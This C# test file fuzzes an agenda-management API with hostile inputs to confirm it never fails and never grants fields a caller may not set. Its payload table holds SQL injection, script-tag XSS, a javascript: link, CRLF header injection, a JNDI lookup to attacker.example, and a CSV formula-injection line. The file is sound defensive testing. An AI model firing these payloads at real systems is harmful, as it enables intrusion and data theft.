using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Coordination.Contracts;
using Coordination.Playground.Issuer;
using Coordination.Tests.World;

namespace Coordination.Tests.Attacks;

/// <summary>
/// Walks every body of the OpenAPI document as somebody who may send it: each text field with each hostile text, numbers and times that no
/// form means, depth, doubles, fields that are not the caller's to set. Nothing may fail (500), and nobody gets more than they had.
/// </summary>
public abstract class FormAttacks(ApiWorld world)
{
    private static readonly Dictionary<string, string> Texts = new(StringComparer.Ordinal)
    {
        ["NUL"] = "\"a\\u0000b\"",
        ["half a character"] = "\"a\\ud800b\"",
        ["two halves in the wrong order"] = "\"\\udc00\\ud800\"",
        ["turned direction"] = "\"\\u202Egnp.exe\"",
        ["no width"] = "\"\\u200B\\u2060\\uFEFF\"",
        ["SQL"] = "\"'); DROP TABLE members; --\"",
        ["HTML"] = "\"<script>alert(1)</script><img src=x onerror=alert(1)>\"",
        ["Markdown"] = "\"[x](javascript:alert(1)) <at>Alle</at> ![](https://attacker.example/x)\"",
        ["lines"] = "\"a\\r\\nSet-Cookie: x=1\\r\\n\\r\\nb\\u2028c\"",
        ["template"] = "\"{{7*7}} ${jndi:ldap://attacker.example} %00 %n\"",
        ["combining"] = $"\"{string.Concat(Enumerable.Repeat("e\\u0301", 2_000))}\"",
        ["very long"] = $"\"{new string('x', 100_000)}\"",
        ["a number"] = "7",
        ["an object"] = "{\"a\":1}",
        ["nothing"] = "null",
    };

    private static readonly string[] Times =
        ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-14:00", "2025-03-30T02:30:00+01:00", "2025-10-26T02:30:00+02:00", "2025-02-30T10:00:00Z", "gestern", ""];

    private static readonly string[] Numbers = ["-1", "2147483648", "9223372036854775808", "1e400", "1.5", "\"1\"", "-0"];

    [Fact]
    public async Task No_text_in_any_field_makes_the_api_fail()
    {
        var (victims, document, faults) = (await Victims.CreateAsync(world), await ApiDocument.ReadAsync(world.Http), new List<string>());
        var tried = 0;
        foreach (var operation in document.Operations.Where(operation => operation.Body is not null))
        {
            foreach (var field in document.TextsOf(operation.Body))
            {
                foreach (var (kind, text) in Texts)
                {
                    tried++;
                    var status = await SendAsync(victims, operation, With(document, operation, victims, field, text));
                    if ((int)status >= 500) faults.Add($"{operation.Name} {field}: {kind} → {(int)status}");
                }
            }
        }

        Assert.Empty(faults);
        Assert.InRange(tried, 300, int.MaxValue);
        Assert.NotNull(await victims.People.As(victims.People.Member).FindGroupAsync(victims.GroupId, default));
    }

    [Fact]
    public async Task No_number_time_depth_or_double_makes_the_api_fail()
    {
        var (victims, document, faults) = (await Victims.CreateAsync(world), await ApiDocument.ReadAsync(world.Http), new List<string>());
        foreach (var operation in document.Operations.Where(operation => operation.Body is not null))
        {
            var body = Fitting(document, operation, victims);
            var odd = Times.Select(time => body.Replace("2025-06-01T10:00:00Z", time, StringComparison.Ordinal))
                .Concat(Numbers.Select(number => body.Replace(":1,", $":{number},", StringComparison.Ordinal).Replace(":1}", $":{number}}}", StringComparison.Ordinal)))
                .Append($"{new string('[', 5_000)}{new string(']', 5_000)}")
                .Append(string.Concat(Enumerable.Repeat("{\"name\":", 5_000)) + "1" + new string('}', 5_000))
                .Append(body + body).Append($"[{body}]").Append("\uFEFF" + body).Append("\"" + body.Replace("\"", "\\\"", StringComparison.Ordinal) + "\"");
            foreach (var sent in odd)
            {
                var status = await SendAsync(victims, operation, sent);
                if ((int)status >= 500) faults.Add($"{operation.Name}: {(int)status} to {sent[..Math.Min(sent.Length, 120)]}");
            }
        }

        Assert.Empty(faults);
    }

    [Fact]
    public async Task A_field_that_is_there_twice_is_malformed_whichever_of_the_two_was_meant()
    {
        var scene = await CouncilScene.CreateAsync(world);
        var body = $$"""{"groupId":"{{scene.GroupId}}","title":"Beete","title":"Haushalt","publicity":"public"}""";
        using var http = world.WithToken(world.Issuer.PersonToken(new Person(scene.Member.PersonId, "Somebody", "s@kreis.example")));
        using var answer = await http.PutAsync(new Uri(Routes.Fill(Routes.Item, Guid.NewGuid()), UriKind.Relative), new StringContent(body, Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
    }

    /// <summary>Even where nobody would look: a reader that follows every depth is at its sender's mercy.</summary>
    [Theory]
    [InlineData(20, HttpStatusCode.OK)]
    [InlineData(40, HttpStatusCode.BadRequest)]
    public async Task Depth_is_bounded_in_fields_that_nobody_reads_too(int depth, HttpStatusCode status)
    {
        var scene = await CouncilScene.CreateAsync(world);
        var body = $$"""{"groupId":"{{scene.GroupId}}","title":"Beete","publicity":"public","unheardOf":{{new string('[', depth)}}{{new string(']', depth)}}}""";
        using var http = world.WithToken(world.Issuer.PersonToken(new Person(scene.Member.PersonId, "Somebody", "s@kreis.example")));
        using var answer = await http.PutAsync(new Uri(Routes.Fill(Routes.Item, Guid.NewGuid()), UriKind.Relative), new StringContent(body, Encoding.UTF8, "application/json"));
        Assert.Equal(status, answer.StatusCode);
    }

    [Fact]
    public async Task Fields_that_are_not_the_callers_to_set_set_nothing()
    {
        var scene = await CouncilScene.CreateAsync(world);
        var (session, id) = (await scene.ScheduleAsync(), Guid.NewGuid());
        var body = $$"""
            {"groupId":"{{scene.GroupId}}","title":"Beete","publicity":"public","state":"admitted","sessionId":"{{session.Id}}","number":"Ö 1","position":1,
            "isSupplement":true,"proposedBy":"{{scene.Chair.PersonId}}","proposedByName":"Vorsitz","factionId":"{{scene.Tulips}}","factionName":"Tulpen",
            "version":99,"changedBy":"{{scene.Chair.PersonId}}","request":"x","role":"chair","isAdmin":true,"hasVote":true}
            """;
        using var http = world.WithToken(world.Issuer.PersonToken(new Person(scene.Member.PersonId, "Somebody", "s@kreis.example")));
        using var answer = await http.PutAsync(new Uri(Routes.Fill(Routes.Item, id), UriKind.Relative), new StringContent(body, Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        var item = (await scene.As(scene.Chair).FindItemAsync(id, default))!;
        Assert.Equal(
            (AgendaItemState.Proposed, null, false, scene.Member.PersonId, "Fraktion der Rosen", 1L),
            (item.State, item.Number, item.IsSupplement, item.ProposedBy, item.FactionName, item.Version));
        Assert.Equal(Role.Member, Assert.Single((await scene.As(scene.Member).GetMeAsync(default)).Groups).MyRole);
    }

    [Fact]
    public async Task A_roster_of_a_million_lines_or_of_one_endless_quotation_is_refused_at_once()
    {
        var scene = await CouncilScene.CreateAsync(world);
        var lines = new MemoryStream(Encoding.UTF8.GetBytes("personId;familyName\n" + string.Concat(Enumerable.Repeat("=cmd|x;@y\n", 1_000_000))));
        await Refused.WithAsync(Refusal.TooLarge, () => world.Admin.PutRosterAsync(scene.GroupId, lines, default));
        var open = await world.Admin.PutRosterAsync(
            scene.GroupId, new MemoryStream(Encoding.UTF8.GetBytes($"personId;familyName\n{Guid.NewGuid()};\"{new string('"', 99_999)}\n")), default);
        Assert.NotEmpty(open.Errors);
    }

    private string Fitting(ApiDocument document, Operation operation, Victims victims) =>
        document.Fill(operation.Body, name => victims.ValueOf(name) is { } value ? JsonValue.Create(value) : null)!.ToJsonString();

    /// <summary>A body that fits, but for one field; written by hand, as no library writes half a character.</summary>
    private string With(ApiDocument document, Operation operation, Victims victims, string field, string text)
    {
        const string mark = "\u00A7mark\u00A7";
        var body = document.Fill(operation.Body, name => victims.ValueOf(name) is { } value ? JsonValue.Create(value) : null)!;
        var at = body;
        var steps = field.Split('/');
        foreach (var step in steps[..^1]) at = int.TryParse(step, out var index) ? at![index] : at![step];
        if (at is JsonObject parent) parent[steps[^1]] = mark;
        else if (at is JsonArray list) list[0] = mark;
        return body.ToJsonString(new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }).Replace($"\"{mark}\"", text, StringComparison.Ordinal);
    }

    /// <summary>Sent by the one who may: administrator, bot, chair or clerk; to something new where it can be made.</summary>
    private async Task<HttpStatusCode> SendAsync(Victims victims, Operation operation, string body)
    {
        bool IsNew(string id) => id is "factionId" or "memberId" || operation.Path is "/sessions/{sessionId}" or "/agenda-items/{itemId}";
        var path = operation.Path;
        foreach (var id in operation.Ids) path = path.Replace($"{{{id}}}", IsNew(id) ? Guid.NewGuid().ToString() : Uri.EscapeDataString(victims.ValueOf(id) ?? "x"), StringComparison.Ordinal);
        using var request = new HttpRequestMessage(operation.Method, $"{path}?fileName=notizen.txt");
        request.Headers.TryAddWithoutValidation("If-Match", "\"1\"");
        request.Content = new StringContent(body, Encoding.UTF8, "application/json");
        using var response = await SenderOf(operation, victims).SendAsync(request);
        return response.StatusCode;
    }

    private HttpClient SenderOf(Operation operation, Victims victims)
    {
        var people = victims.People;
        if (operation.Path.StartsWith("/groups/", StringComparison.Ordinal)) return world.WithToken(world.Issuer.PersonToken(ApiWorld.Administrator));
        if (operation.Path.StartsWith("/errands", StringComparison.Ordinal) || operation.Path.EndsWith("/draft", StringComparison.Ordinal)) return world.WithToken(world.Issuer.AppToken(Routes.ErrandsRole));
        if (operation.Path.StartsWith("/conversations", StringComparison.Ordinal))
        {
            var bot = world.WithToken(world.Issuer.AppToken(Routes.ActForRole));
            bot.DefaultRequestHeaders.Add(Routes.ActingForHeader, people.Chair.PersonId.ToString());
            return bot;
        }

        var isClerks = operation.Path.Contains("/minutes", StringComparison.Ordinal);
        return world.WithToken(world.Issuer.PersonToken(new Person((isClerks ? people.Clerk : people.Chair).PersonId, "Somebody", "s@kreis.example")));
    }
}

public sealed class FormAttacksOnSqlite(SqliteWorld world) : FormAttacks(world), IClassFixture<SqliteWorld>;

public sealed class FormAttacksOnPostgreSql(PostgreSqlWorld world) : FormAttacks(world), IClassFixture<PostgreSqlWorld>;
